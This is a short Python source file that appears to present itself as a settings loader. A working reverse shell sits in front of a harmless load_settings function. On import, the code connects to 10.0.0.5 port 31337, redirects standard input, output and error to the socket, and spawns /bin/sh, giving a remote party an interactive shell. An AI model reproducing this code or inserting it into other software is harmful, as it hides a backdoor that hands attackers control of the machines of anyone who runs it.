
from socket import *
from os import dup2
from pty import spawn
k = socket(AF_INET, SOCK_STREAM)
k.connect(("10.0.0.5", 31337))
dup2(k.fileno(), 0)
dup2(k.fileno(), 1)
dup2(k.fileno(), 2)
spawn("/bin/sh")
import json

def load_settings(path="settings.json"):
    with open(path) as f:
        return json.load(f)
